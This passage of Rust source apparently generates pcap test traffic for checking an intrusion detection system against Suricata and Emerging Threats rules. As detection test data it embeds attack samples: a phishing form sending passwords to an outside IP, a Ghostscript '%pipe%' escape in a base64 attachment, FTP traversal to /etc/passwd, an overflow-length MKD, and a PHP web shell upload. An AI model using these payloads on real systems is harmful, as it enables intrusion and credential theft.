    if !loose.is_empty() {
        let h = ("X-Data".to_string(), loose.concat());
        if to_client {
            resp_headers.push(h)
        } else {
            headers.push(h)
        }
    }
    let ct = joined(Buffer::HttpContentType);
    let mut body = joined(Buffer::HttpRequestBody);
    let file_data = joined(Buffer::FileData);
    let resp_body = [
        joined(Buffer::HttpResponseBody),
        if to_client {
            file_data.clone()
        } else {
            Vec::new()
        },
    ]
    .concat();
    if !to_client {
        body.extend_from_slice(&file_data);
        if !ct.is_empty() {
            push(&mut headers, "Content-Type", ct.clone())?;
        }
    } else if !ct.is_empty() {
        if !printable(&ct) {
            return None;
        }
        resp_headers.push((
            "Content-Type".into(),
            String::from_utf8_lossy(&ct).into_owned(),
        ));
    }
    let server = joined(Buffer::HttpServer);
    if !server.is_empty() {
        if !printable(&server) {
            return None;
        }
        resp_headers[0].1 = String::from_utf8_lossy(&server).into_owned();
    }
    let location = joined(Buffer::HttpLocation);
    if !location.is_empty() {
        if !printable(&location) {
            return None;
        }
        resp_headers.push((
            "Location".into(),
            String::from_utf8_lossy(&location).into_owned(),
        ));
    }
    let status = contents(rule, Buffer::HttpStatCode)
        .first()
        .cloned()
        .unwrap_or_else(|| b"200".to_vec());
    if status.len() != 3 || !status.iter().all(u8::is_ascii_digit) {
        return None;
    }
    let hdrs: Vec<(&str, &str)> = headers
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_str()))
        .collect();
    let req = request(&method, &target_safe(&target), &hdrs, &body);
    let rh: Vec<(&str, &str)> = resp_headers
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_str()))
        .collect();
    let reason = if status == b"200" { "OK" } else { "Status" };
    let resp = response(
        &format!("{} {reason}", String::from_utf8_lossy(&status)),
        &rh,
        &resp_body,
    );
    Some((req, resp))
}

/// An FTP control session: login, then `commands` each answered.
fn ftp_session(commands: &[Vec<u8>], reply: &[u8]) -> Session {
    let mut s: Session = vec![
        (false, b"220 FTP server ready\r\n".to_vec()),
        (true, b"USER anonymous\r\n".to_vec()),
        (false, b"331 Password required\r\n".to_vec()),
        (true, b"PASS guest@\r\n".to_vec()),
        (false, b"230 Logged in\r\n".to_vec()),
    ];
    for c in commands {
        s.push((true, c.clone()));
        s.push((false, reply.to_vec()));
    }
    s
}

/// Hand-written mail and file-transfer sessions: benign ones and attacks of the kinds
/// ET's SMTP and FTP rules look for.
fn command_sessions() -> Vec<(u16, Session)> {
    let mail = b"From: alice@client.example\r\nTo: bob@mail.example\r\nSubject: report\r\n\r\nSee you tomorrow.".to_vec();
    let phish = b"From: \"IT desk\" <it@client.example>\r\nSubject: Password expiry\r\nContent-Type: text/html\r\n\r\n<form action=\"http://198.51.100.7/login.php\"><input type=\"password\" name=\"pass\"></form>".to_vec();
    // Attachments: base64 PostScript of the Ghostscript escapes ET looks for, and a
    // quoted-printable text file; a plain text part is no file.
    let attached = concat!(
        "From: a@client.example\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=\"=_b1\"\r\n\r\n",
        "This is a multi-part message.\r\n",
        "--=_b1\r\nContent-Type: text/plain\r\n\r\nPlease see the invoice.\r\n",
        "--=_b1\r\nContent-Type: application/postscript; name=\"invoice.ps\"\r\n",
        "Content-Disposition: attachment; filename=\"invoice.ps\"\r\n",
        "Content-Transfer-Encoding: base64\r\n\r\n",
        "JSFQUy1BZG9iZS0zLjAKL2xlZ2FsIHsgMSB9IGRlZiBsZWdhbCB7CiBzYXZlIHJlc3RvcmUgfSBz\r\ndG9wcGVkCmN1cnJlbnRkZXZpY2UgbnVsbCB0cnVlIG1hcmsgL091dHB1dElDQ1Byb2ZpbGUgKCVw\r\naXBlJWlkKSAucHV0ZGV2aWNlcHJvcHMK\r\n",
        "--=_b1\r\nContent-Disposition: attachment; filename=notes.txt\r\n",
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n",
        "total =3D 42, due=\r\n friday\r\n",
        "--=_b1--\r\n",
    )
    .as_bytes()
    .to_vec();
    vec![
        (25, smtp_session(None, &attached)),
        (25, smtp_session(None, &mail)),
        (25, smtp_session(None, &phish)),
        (
            587,
            smtp_session(Some(b"AUTH LOGIN YWRtaW4=\r\n".to_vec()), &mail),
        ),
        (
            21,
            ftp_session(&[b"SYST\r\n".to_vec(), b"LIST\r\n".to_vec()], b"200 OK\r\n"),
        ),
        (
            21,
            ftp_session(
                &[
                    b"CWD ../../../../etc\r\n".to_vec(),
                    b"RETR passwd\r\n".to_vec(),
                ],
                b"550 Denied\r\n",
            ),
        ),
        (
            2121,
            ftp_session(
                &[[b"MKD ".to_vec(), vec![b'A'; 600], b"\r\n".to_vec()].concat()],
                b"257 Created\r\n",
            ),
        ),
    ]
}

/// A session for an ET SMTP or FTP rule, from its contents: joined in rule order into the
/// client's (or, for `to_client` rules, the server's) turn.
fn synthesize_session(rule: &Rule) -> Option<Session> {
    let payload = contents(rule, Buffer::Stream).concat();
    if payload.is_empty() {
        return None;
    }
    let to_client = rule.flow.dir == Some(eastwall_ids::Dir::ToClient);
    Some(match rule.protocol {
        eastwall_ids::rule::Protocol::Smtp if to_client => {
            let mut s = smtp_session(None, b"Subject: x\r\n\r\nbody");
            s.insert(3, (false, [&payload[..], b"\r\n"].concat()));
            s
        }
        eastwall_ids::rule::Protocol::Smtp => smtp_session(None, &payload),
        _ if to_client => ftp_session(&[b"LIST\r\n".to_vec()], &[&payload[..], b"\r\n"].concat()),
        _ => ftp_session(&[[&payload[..], b"\r\n"].concat()], b"200 OK\r\n"),
    })
}

fn et_rules(dir: &Path, file: &str) -> Vec<Rule> {
    let Ok(text) = std::fs::read_to_string(dir.join(file)) else {
        return Vec::new();
    };
    let mut rules = parse_rules(file, &text).rules;
    rules.sort_by_key(|r| r.sid);
    rules
}

/// The benchmark traffic as a pcap (repeated `repeat` times on new connections, so that
/// Suricata's scanning time stands well above its start-up time), and an empty connection.
fn bench(out: &Path, empty: &Path, repeat: usize, shape: traffic::Shape) -> std::io::Result<()> {
    let mut ports = Ports(1024);
    let flows = shape.flows();
    let file = std::fs::File::create(out)?;
    let mut w = PcapWriter::new(std::io::BufWriter::new(file)).map_err(std::io::Error::other)?;
    let mut clock = Duration::from_secs(1_700_000_000);
    let mut bytes = 0;
    for _ in 0..repeat {
        let mut p = Pcap::new();
        p.clock = clock;
        for flow in &flows {
            if ports.0 >= 65000 {
                ports.0 = 1024;
            }
            bytes += flow.bytes();
            if flow.carries == traffic::Carries::DnsUdp {
                let cport = ports.next();
                for (from_client, datagram) in &flow.turns {
                    p.datagram(*from_client, cport, flow.port, datagram);
                }
                continue;
            }
            p.session(&mut ports, flow.port, &flow.turns, WHOLE);
        }
        for (ts, data) in &p.packets {
            w.write_packet(&PcapPacket::new(*ts, data.len() as u32, data))
                .map_err(std::io::Error::other)?;
        }
        clock = p.clock;
    }
    let mut p = Pcap::new();
    p.conv(&mut ports, 80).close();
    p.write(empty)?;
    println!("{bytes}");
    Ok(())
}

fn main() -> std::io::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.first().is_some_and(|a| a == "bench") {
        let (Some(out), Some(empty)) = (args.get(1), args.get(2)) else {
            return Err(std::io::Error::other(
                "usage: ids-corpus bench BENCH.pcap EMPTY.pcap [REPEAT] [web|bulk|mixed]",
            ));
        };
        let repeat = args.get(3).and_then(|r| r.parse().ok()).unwrap_or(1);
        let shape = match args.get(4).map(String::as_str) {
            None | Some("web") => traffic::Shape::Web,
            Some("bulk") => traffic::Shape::Bulk,
            Some("mixed") => traffic::Shape::Mixed,
            Some(other) => return Err(std::io::Error::other(format!("unknown shape `{other}`"))),
        };
        return bench(Path::new(out), Path::new(empty), repeat, shape);
    }
    let out = PathBuf::from(
        args.first()
            .map_or("ids/testdata/conformance", String::as_str),
    );
    let et = args.get(1).map(PathBuf::from);
    std::fs::create_dir_all(&out)?;
    let mut ports = Ports(20000);

    let mut p = Pcap::new();
    for (req, resp) in web_exchanges() {
        let mut c = p.conv(&mut ports, 80);
        c.send(true, &req, WHOLE);
        c.send(false, &resp, WHOLE);
        c.close();
    }
    p.write(&out.join("http_attacks.pcap"))?;

    let mut p = Pcap::new();
    for (req, resp) in web_exchanges() {
        let mut c = p.conv(&mut ports, 8080);
        c.send(true, &req, TINY);
        c.send(false, &resp, TINY);
        c.close();
    }
    p.write(&out.join("http_split.pcap"))?;

    let mut p = Pcap::new();
    let ex = web_exchanges();
    for group in ex.chunks(6) {
        let mut c = p.conv(&mut ports, 80);
        for (req, resp) in group {
            c.send(true, req, &[700, 1448]);
            c.send(false, resp, &[1448]);
        }
        c.close();
    }
    p.write(&out.join("http_keepalive.pcap"))?;

    let mut p = Pcap::new();
    for (port, msgs) in raw_exchanges() {
        for sizes in [WHOLE, TINY] {
            p.session(&mut ports, port, &msgs, sizes);
        }
    }
    p.write(&out.join("raw_tcp.pcap"))?;

    // TLS and DNS: names from ET rules when available, plus benign ones.
    let mut snis = vec![
        "www.example.com".to_string(),
        "api.internal.example".to_string(),
    ];
    let mut qnames = vec![
        "www.example.com".to_string(),
        "db.internal.example".to_string(),
    ];
    if let Some(et) = &et {
        for file in [
            "emerging-malware.rules",
            "emerging-phishing.rules",
            "emerging-info.rules",
            "emerging-coinminer.rules",
            "emerging-policy.rules",
        ] {
            for r in et_rules(et, file).iter().step_by(7) {
                for c in contents(r, Buffer::TlsSni) {
                    if printable(&c) && snis.len() < 60 {
                        snis.push(
                            String::from_utf8_lossy(&c)
                                .trim_start_matches('.')
                                .to_string(),
                        );
                    }
                }
                for c in contents(r, Buffer::DnsQuery) {
                    if printable(&c) && qnames.len() < 60 {
                        qnames.push(
                            String::from_utf8_lossy(&c)
                                .trim_start_matches('.')
                                .to_string(),
                        );
                    }
                }
            }
        }
    }
    let mut p = Pcap::new();
    for (i, sni) in snis.iter().enumerate() {
        let mut c = p.conv(&mut ports, 443);
        c.send(true, &client_hello(sni, i as u8), WHOLE);
        c.close();
    }
    p.write(&out.join("tls_sni.pcap"))?;
    let mut p = Pcap::new();
    for (i, name) in qnames.iter().enumerate() {
        let mut c = p.conv(&mut ports, 53);
        let q = dns_query(name, 0x1000 + i as u16);
        c.send(true, &q, WHOLE);
        c.send(false, &dns_response(&q), WHOLE);
        c.close();
    }
    p.write(&out.join("dns_tcp.pcap"))?;

    // One conversation per sampled ET HTTP rule, from the rule's own contents.
    if let Some(et) = &et {
        for (file, name, step) in [
            ("emerging-web_server.rules", "et_web_server.pcap", 4),
            (
                "emerging-web_specific_apps.rules",
                "et_web_specific_apps.pcap",
                40,
            ),
            ("emerging-web_client.rules", "et_web_client.pcap", 8),
            ("emerging-user_agents.rules", "et_user_agents.pcap", 2),
            ("emerging-exploit.rules", "et_exploit.pcap", 8),
        ] {
            let mut p = Pcap::new();
            let mut n = 0;
            for r in et_rules(et, file)
                .iter()
                .filter(|r| r.protocol == eastwall_ids::rule::Protocol::Http)
                .step_by(step)
            {
                let Some((req, resp)) = synthesize(r) else {
                    continue;
                };
                let mut c = p.conv(&mut ports, 80);
                c.send(true, &req, WHOLE);
                c.send(false, &resp, WHOLE);
                c.close();
                n += 1;
                if n >= 150 {
                    break;
                }
            }
            p.write(&out.join(name))?;
        }
    }

    // SMTP and FTP sessions: hand-written ones, whole and in tiny segments, and with the ET
    // snapshot one per ET SMTP or FTP rule built from its contents.
    let mut p = Pcap::new();
    let mut sessions: Vec<(u16, Session, &[usize])> = Vec::new();
    for sizes in [WHOLE, TINY] {
        for (port, session) in command_sessions() {
            sessions.push((port, session, sizes));
        }
    }
    if let Some(et) = &et {
        let mut rules: Vec<Rule> = Vec::new();
        for file in std::fs::read_dir(et)?.flatten() {
            let text = std::fs::read_to_string(file.path())?;
            let name = file.file_name().to_string_lossy().into_owned();
            rules.extend(parse_rules(&name, &text).rules.into_iter().filter(|r| {
                matches!(
                    r.protocol,
                    eastwall_ids::rule::Protocol::Smtp | eastwall_ids::rule::Protocol::Ftp
                )
            }));
        }
        rules.sort_by_key(|r| r.sid);
        for r in &rules {
            if let Some(session) = synthesize_session(r) {
                let port = if r.protocol == eastwall_ids::rule::Protocol::Smtp {
                    25
                } else {
                    21
                };
                sessions.push((port, session, WHOLE));
            }
        }
    }
    for (port, session, sizes) in sessions {
        p.session(&mut ports, port, &session, sizes);
    }
    p.write(&out.join("smtp_ftp.pcap"))?;

    // Server certificates: a known-bad leaf with its issuer, and a benign one; whole and
    // in tiny segments.
    let mut p = Pcap::new();
    let bad = certificate("evil.example", "Evil Org", &[0x0a, 0xe1, 0xe6]);
    let ca = certificate("Evil Root", "Evil Root Org", &[0x01]);
    let good = certificate("shop.internal.example", "Internal", &[0x42]);
    for (i, (sni, chain)) in [
        ("evil.example", vec![bad.clone(), ca.clone()]),
        ("shop.internal.example", vec![good.clone()]),
        ("evil.example", vec![bad, ca]),
        ("shop.internal.example", vec![good]),
    ]
    .into_iter()
    .enumerate()
    {
        let mut c = p.conv(&mut ports, 443);
        let sizes = if i < 2 { WHOLE } else { TINY };
        c.send(true, &client_hello(sni, 100 + i as u8), sizes);
        c.send(false, &server_flight(&chain, i as u8), sizes);
        c.close();
    }
    p.write(&out.join("tls_certs.pcap"))?;

    // Fingerprints and versions: each conversation whole and in tiny segments.
    let mut p = Pcap::new();
    let cert = certificate("fingerprint.example", "Fingerprint Org", &[0x77]);
    for sizes in [WHOLE, TINY] {
        for (hello, flight) in fingerprint_conversations(&cert) {
            let mut c = p.conv(&mut ports, 443);
            c.send(true, &hello.to_record(), sizes);
            c.send(false, &flight, sizes);
            c.close();
        }
    }
    p.write(&out.join("tls_fingerprints.pcap"))?;

    // Compressed bodies, whole and in tiny segments.
    let mut p = Pcap::new();
    for sizes in [WHOLE, TINY] {
        for (req, resp) in compressed_exchanges() {
            let mut c = p.conv(&mut ports, 80);
            c.send(true, &req, sizes);
            c.send(false, &resp, sizes);
            c.close();
        }
    }
    p.write(&out.join("http_compressed.pcap"))?;

    // `pass`: a conversation a pass rule matches (nothing more alerts on it, in either
    // direction), and the same without what the pass rule looks for.
    let mut p = Pcap::new();
    for hello in [&b"HELLO pass-me\r\n"[..], b"HELLO other\r\n"] {
        for sizes in [WHOLE, TINY] {
            let mut c = p.conv(&mut ports, 9005);
            c.send(true, hello, sizes);
            c.send(false, b"EVIL reply\r\n", sizes);
            c.send(true, b"EVIL again\r\n", sizes);
            c.close();
        }
    }
    p.write(&out.join("raw_pass.pcap"))?;

    // HTTP/1 as sent: heads and framing, whole and in tiny segments; client ports of their
    // own, apart from every other pcap's.
    let mut ports = Ports(40000);
    let mut p = Pcap::new();
    for sizes in [WHOLE, TINY] {
        for (req, resp) in raw_head_exchanges() {
            let mut c = p.conv(&mut ports, 80);
            c.send(true, &req, sizes);
            c.send(false, &resp, sizes);
            c.close();
        }
    }
    p.write(&out.join("http_as_sent.pcap"))?;

    // TLS once encrypted: application data is not raw-inspected (Suricata's default
    // `encryption-handling`), the handshake in clear is; client ports of their own.
    let mut ports = Ports(41000);
    let mut p = Pcap::new();
    let cert = certificate("shop.internal.example", "Internal", &[0x42]);
    let secret = |kind: u8| {
        let mut r = vec![kind, 3, 3, 0, 20];
        r.extend_from_slice(b"..ENCRYPTED-SECRET..");
        r
    };
    let finish = [&[20u8, 3, 3, 0, 1, 1][..], &[22, 3, 3, 0, 4, 9, 9, 9, 9]].concat();
    let conversations: [Vec<(bool, Vec<u8>)>; 3] = [
        // TLS 1.2: the secret in application data both ways, after the handshake.
        vec![
            (true, client_hello("shop.internal.example", 51)),
            (false, server_flight(std::slice::from_ref(&cert), 51)),
            (true, [finish.clone(), secret(23)].concat()),
            (false, [finish.clone(), secret(23)].concat()),
        ],
        // The secret in a handshake record, in clear.
        vec![
            (
                true,
                [client_hello("shop.internal.example", 52), secret(22)].concat(),
            ),
            (false, server_flight(std::slice::from_ref(&cert), 52)),
        ],
        // TLS 1.3: encrypted from the server's first flight on.
        vec![
            (true, client_hello("shop.internal.example", 53)),
            (
                false,
                server_flight_of(0x0304, 0x1301, &[(43, vec![3, 4])], &[], 53),
            ),
            (true, [finish.clone(), secret(23)].concat()),
            (false, secret(23)),
        ],
    ];
    // Whole segments only: Suricata reads `tls.version` from split record headers
    // differently (the split cases are eastwall's unit tests).
    for turns in &conversations {
        p.session(&mut ports, 443, turns, WHOLE);
    }
    p.write(&out.join("tls_encrypted.pcap"))?;

    // SMTP `STARTTLS` and FTP `AUTH TLS`: after the server's go-ahead the flow is TLS (its
    // hello and certificate read, its application data not raw-inspected); refused, it goes
    // on in clear. Whole and in tiny segments; client ports of their own.
    let mut ports = Ports(42000);
    let mut p = Pcap::new();
    let cert = certificate("mail.starttls.example", "Mail Org", &[0x25]);
    let hello = client_hello("mail.starttls.example", 61);
    let flight = server_flight(std::slice::from_ref(&cert), 61);
    let after = [finish.clone(), secret(23)].concat();
    let smtp = |answer: &[u8]| -> Session {
        vec![
            (false, b"220 mail.starttls.example ESMTP\r\n".to_vec()),
            (true, b"EHLO client.example\r\n".to_vec()),
            (
                false,
                b"250-mail.starttls.example\r\n250-STARTTLS\r\n250 OK\r\n".to_vec(),
            ),
            (true, b"STARTTLS\r\n".to_vec()),
            (false, answer.to_vec()),
        ]
    };
    let mut upgraded = smtp(b"220 2.0.0 Ready to start TLS\r\n");
    upgraded.extend([
        (true, hello.clone()),
        (false, flight.clone()),
        (true, after.clone()),
        (false, secret(23)),
    ]);
    let mut refused = smtp(b"454 4.7.0 TLS not available\r\n");
    refused.extend([
        (
            true,
            b"MAIL FROM:<..ENCRYPTED-SECRET..@example>\r\n".to_vec(),
        ),
        (false, b"250 OK\r\n".to_vec()),
        (true, b"QUIT\r\n".to_vec()),
    ]);
    let ftp: Session = vec![
        (false, b"220 FTP server ready\r\n".to_vec()),
        (true, b"AUTH TLS\r\n".to_vec()),
        (false, b"234 AUTH TLS successful\r\n".to_vec()),
        (true, hello),
        (false, flight),
        (true, after),
        (false, secret(23)),
    ];
    for sizes in [WHOLE, TINY] {
        for (port, session) in [(25, &upgraded), (25, &refused), (21, &ftp)] {
            p.session(&mut ports, port, session, sizes);
        }
    }
    p.write(&out.join("starttls.pcap"))?;

    // Uploads: `file.data` of a request is its files (a PUT's body, the `filename` parts of
    // a multipart form), not form fields or other bodies. Whole and in tiny segments.
    let mut ports = Ports(43000);
    let mut p = Pcap::new();
    let form = |parts: &[(&str, &str)]| {
        let mut b = String::new();
        for (disposition, content) in parts {
            b.push_str(&format!(
                "--UpLoAd42\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n"
            ));
        }
        b.push_str("--UpLoAd42--\r\n");
        b
    };
    let request = |method: &str, content_type: &str, body: &str| {
        format!(
            "{method} /upload.php HTTP/1.1\r\nHost: files.internal.example\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    };
    let multipart = "multipart/form-data; boundary=UpLoAd42";
    let uploads = [
        request(
            "POST",
            multipart,
            &form(&[
                ("name=\"note\"", "UPLOAD-FIELD-MARK"),
                (
                    "name=\"file\"; filename=\"shell.php\"",
                    "<?php system($_GET['c']); ?>",
                ),
            ]),
        ),
        request(
            "POST",
            multipart,
            &form(&[("name=\"note\"", "<?php echo 1; ?> UPLOAD-FIELD-MARK")]),
        ),
        request(
            "POST",
            "application/x-www-form-urlencoded",
            "code=<?php+echo+1;+?>",
        ),
        request(
            "PUT",
            "application/octet-stream",
            "<?php echo 2; ?> plain text",
        ),
        request(
            "POST",
            multipart,
            &form(&[
                ("name=\"a\"; filename=\"a.txt\"", "some plain text"),
                ("name=\"b\"; filename=\"b.gif\"", "GIF89a...."),
            ]),
        ),
    ];
    let ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    for sizes in [WHOLE, TINY] {
        for req in &uploads {
            let mut c = p.conv(&mut ports, 80);
            c.send(true, req, sizes);
            c.send(false, ok, sizes);
            c.close();
        }
    }
    p.write(&out.join("http_uploads.pcap"))?;
    Ok(())
}
